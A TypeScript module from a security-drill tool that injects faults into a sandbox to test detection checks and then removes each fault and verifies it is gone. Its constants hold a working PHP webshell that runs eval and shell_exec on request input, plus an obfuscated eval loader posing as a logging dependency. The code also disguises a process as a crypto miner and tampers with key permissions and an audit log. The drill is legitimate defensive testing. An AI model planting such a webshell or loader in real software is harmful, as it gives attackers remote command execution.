/**
 * The faults a drill injects into its sandbox, each real: a webshell file, a process running
 * under a miner's name, `privileged: true` in the compose file, a key made world-readable, an
 * edited audit-log line, a release failing its health check, a malicious dependency. Each kind
 * says which checks should catch it and what in their findings points at *this* fault (its
 * marker: the file, the pid), how to remove it, and how to prove nothing is left.
 *
 * @example
 * ```ts
 * import { injectFault } from "./faults.ts";
 * // const injected = await injectFault(site, { type: "webshell" });
 * // ...run the runbook...
 * // await cleanFault(site, injected); (await leftover(site, injected)) === undefined
 * ```
 * @module
 */
import { startProcess } from "../proc/mod.ts";
import { dirname, join } from "node:path";
import type { FaultSpec } from "./schema.ts";

/** Where faults go: the sandbox's paths. */
export interface FaultSite {
  /** The active release (`<app>/current`). */
  release: string;
  appDir: string;
  stateDir: string;
  /** Scratch space for what cleaning needs (saved bytes, modes). */
  work: string;
  /** Restarts the app as it normally runs, or with its health check failing. */
  restartApp(faulty: boolean): Promise<void>;
  /** Whether the app answers its health check with 200. */
  healthy(): Promise<boolean>;
}

/** An injected fault: what it is, where, and what a detection must mention. */
export interface InjectedFault {
  index: number;
  type: FaultSpec["type"];
  note?: string;
  /** The file, pid or setting it planted. */
  what: string;
  /** Checks (`policy/check`, or `health`) expected to catch it. */
  detected_by: string[];
  /** Text that a finding of one of those checks must contain to be about this fault. */
  marker: string;
  injected_at: string;
  /** What cleaning needs (saved bytes, a pid); internal. */
  saved: { text?: string; mode?: number; line?: number; created?: string[] };
  process?: Deno.ChildProcess;
}

/** A PHP webshell: every construct the malicious-code check knows, as attackers write them. */
export const WEBSHELL = `<?php
// drill webshell: injected by \`deno task drill\`, removed at the end of the drill
if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }
if (isset($_GET['cmd'])) { echo shell_exec($_GET['cmd']); }
system($_REQUEST['s']);
`;

/** A dependency's loader that decodes and runs a payload (the event-stream pattern). */
export const MALICIOUS_PACKAGE = `<?php
// drill: a malicious dependency, injected by \`deno task drill\`
namespace Acme\\Logger;
function boot() { $p = gzinflate(base64_decode('S03OyFdQL0nNTVQozy/KSVFUBwA=')); eval($p); }
boot();
`;

const DEFAULT_PATHS: Partial<Record<FaultSpec["type"], string>> = {
  webshell: "uploads/shell.php",
  "malicious-dependency": "vendor/acme/logger/src/Logger.php",
  "privileged-compose": "docker-compose.yml",
};

/** Which checks are expected to catch each kind of fault. */
export const DETECTED_BY: Record<FaultSpec["type"], string[]> = {
  webshell: ["security-audit/malicious-code", "trojansearch/trojan-files", "release-diff"],
  miner: ["security-audit/suspicious-processes"],
  "privileged-compose": ["security-audit/compose-risks", "release-diff"],
  "world-readable-key": ["soc2/key-permissions", "security-audit/file-permissions"],
  "audit-log-edit": ["soc2/audit-logging"],
  "failed-release": ["health"],
  "malicious-dependency": [
    "security-audit/dependencies",
    "security-audit/malicious-code",
    "trojansearch/trojan-files",
    "security-audit/recent-changes",
    "release-diff",
  ],
};

async function exists(path: string): Promise<boolean> {
  return await Deno.lstat(path).then(() => true, () => false);
}

/** Creates the missing directories of `path`, returning those it created (deepest last). */
async function mkdirs(path: string): Promise<string[]> {
  const missing: string[] = [];
  for (let dir = dirname(path); !(await exists(dir)); dir = dirname(dir)) missing.unshift(dir);
  for (const dir of missing) await Deno.mkdir(dir);
  return missing;
}

async function plantFile(site: FaultSite, rel: string, text: string, ageDays?: number) {
  const path = join(site.release, rel);
  const created = await mkdirs(path);
  const before = await Deno.readTextFile(path).catch(() => undefined);
  await Deno.writeTextFile(path, text);
  if (ageDays) {
    const old = new Date(Date.now() - ageDays * 86_400_000);
    await Deno.utime(path, old, old);
  }
  return { path, created, before };
}

/** Where the app's audit log is in the sandbox. */
const logOf = (site: FaultSite) => join(site.stateDir, "deployments.log");

/**
 * Injects one fault into the sandbox.
 *
 * @example
 * ```ts
 * // const miner = await injectFault(site, { type: "miner", name: "xmrig" }, 0);
 * // miner.marker === `pid ${miner.process!.pid} `
 * ```
 */
export async function injectFault(
  site: FaultSite,
  spec: FaultSpec,
  index: number,
): Promise<InjectedFault> {
  const base = {
    index,
    type: spec.type,
    note: spec.note,
    detected_by: DETECTED_BY[spec.type],
    injected_at: "",
  };
  const done = (fault: Omit<InjectedFault, "injected_at">): InjectedFault => ({
    ...fault,
    injected_at: new Date().toISOString(),
  });
  const rel = spec.path ?? DEFAULT_PATHS[spec.type] ?? "";
  switch (spec.type) {
    case "webshell":
    case "malicious-dependency": {
      const text = spec.type === "webshell" ? WEBSHELL : MALICIOUS_PACKAGE;
      const planted = await plantFile(site, rel, text, spec.age_days);
      return done({
        ...base,
        what: planted.path,
        marker: rel,
        saved: { text: planted.before, created: planted.created },
      });
    }
    case "miner": {
      const name = spec.name ?? "xmrig";
      // argv[0] is what process listings show; `exec -a` is how real miners hide as well.
      const process = startProcess(["bash", "-c", `exec -a ${name} sleep 3600`]);
      await waitFor(async () =>
        (await Deno.readTextFile(`/proc/${process.pid}/cmdline`).catch(() => "")).startsWith(name)
      );
      return done({
        ...base,
        what: `pid ${process.pid} (${name})`,
        marker: `pid ${process.pid} `,
        saved: {},
        process,
      });
    }
    case "privileged-compose": {
      const path = join(site.release, rel);
      const before = await Deno.readTextFile(path).catch(() => undefined);
      const text = before === undefined
        ? "services:\n  app:\n    image: demo-app\n    privileged: true\n"
        : addPrivileged(before);
      await Deno.writeTextFile(path, text);
      return done({ ...base, what: path, marker: rel, saved: { text: before } });
    }
    case "world-readable-key": {
      const key = join(site.stateDir, "key");
      const mode = (await Deno.stat(key)).mode! & 0o777;
      await Deno.chmod(key, 0o644);
      return done({
        ...base,
        what: `${key} mode 0644`,
        marker: "the key's mode is 0644",
        saved: { mode },
      });
    }
    case "audit-log-edit": {
      const lines = (await Deno.readTextFile(logOf(site))).split("\n");
      const line = Math.min(2, lines.length - 1);
      const original = lines[line - 1];
      lines[line - 1] = original.replace(/"status":"[a-z.]*"/, '"status":"edited-by-drill"');
      await Deno.writeTextFile(logOf(site), lines.join("\n"));
      return done({
        ...base,
        what: `${logOf(site)} line ${line}`,
        marker: "the audit log does not verify",
        saved: { text: original, line },
      });
    }
    case "failed-release": {
      await site.restartApp(true);
      return done({
        ...base,
        what: "the active release fails its health check",
        marker: "503",
        saved: {},
      });
    }
  }
}

/** Adds `privileged: true` to the first service of a compose file. */
export function addPrivileged(compose: string): string {
  const lines = compose.split("\n");
  const services = lines.findIndex((l) => /^services:\s*$/.test(l));
  const first = lines.findIndex((l, i) => i > services && /^ {2}[A-Za-z0-9_.-]+:\s*$/.test(l));
  if (services < 0 || first < 0) return `${compose.trimEnd()}\n  drill:\n    privileged: true\n`;
  lines.splice(first + 1, 0, "    privileged: true");
  return lines.join("\n");
}

/**
 * Removes an injected fault, restoring what was there before.
 *
 * @example
 * ```ts
 * // await cleanFault(site, injected);
 * ```
 */
export async function cleanFault(site: FaultSite, fault: InjectedFault): Promise<void> {
  switch (fault.type) {
    case "webshell":
    case "malicious-dependency":
    case "privileged-compose": {
      if (fault.saved.text !== undefined) await Deno.writeTextFile(fault.what, fault.saved.text);
      else await Deno.remove(fault.what).catch(() => undefined);
      for (const dir of [...fault.saved.created ?? []].reverse()) {
        await Deno.remove(dir).catch(() => undefined);
      }
      return;
    }
    case "miner": {
      try {
        fault.process?.kill("SIGKILL");
      } catch {
        // already gone (the runbook contained it)
      }
      await fault.process?.status;
      return;
    }
    case "world-readable-key":
      return await Deno.chmod(join(site.stateDir, "key"), fault.saved.mode ?? 0o600);
    case "audit-log-edit": {
      const lines = (await Deno.readTextFile(logOf(site))).split("\n");
      lines[fault.saved.line! - 1] = fault.saved.text!;
      return await Deno.writeTextFile(logOf(site), lines.join("\n"));
    }
    case "failed-release":
      if (!await site.healthy()) await site.restartApp(false);
      return;
  }
}

/**
 * What is left of a fault after cleaning, in one sentence; undefined when nothing is.
 *
 * @example
 * ```ts
 * // (await leftover(site, injected)) === undefined
 * ```
 */
export async function leftover(site: FaultSite, fault: InjectedFault): Promise<string | undefined> {
  switch (fault.type) {
    case "webshell":
    case "malicious-dependency":
    case "privileged-compose": {
      const now = await Deno.readTextFile(fault.what).catch(() => undefined);
      if (now !== fault.saved.text) return `${fault.what} still differs from before the drill`;
      for (const dir of fault.saved.created ?? []) {
        if (await exists(dir)) return `${dir} (created by the drill) still exists`;
      }
      return undefined;
    }
    case "miner": {
      const pid = fault.process!.pid;
      return await running(pid) ? `process ${pid} is still running` : undefined;
    }
    case "world-readable-key": {
      const mode = (await Deno.stat(join(site.stateDir, "key"))).mode! & 0o777;
      return mode === fault.saved.mode ? undefined : `key mode is ${mode.toString(8)}`;
    }
    case "audit-log-edit": {
      const lines = (await Deno.readTextFile(logOf(site))).split("\n");
      return lines[fault.saved.line! - 1] === fault.saved.text
        ? undefined
        : `audit log line ${fault.saved.line} still edited`;
    }
    case "failed-release":
      return await site.healthy() ? undefined : "the app still fails its health check";
  }
}

/** Whether a pid runs (a zombie awaiting its parent does not). */
export async function running(pid: number): Promise<boolean> {
  const stat = await Deno.readTextFile(`/proc/${pid}/stat`).catch(() => "");
  if (!stat) return false;
  const state = stat.slice(stat.lastIndexOf(")") + 2, stat.lastIndexOf(")") + 3);
  return state !== "Z" && state !== "X";
}

async function waitFor(check: () => Promise<boolean>, limitMs = 5000): Promise<void> {
  const deadline = Date.now() + limitMs;
  while (Date.now() < deadline && !await check()) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
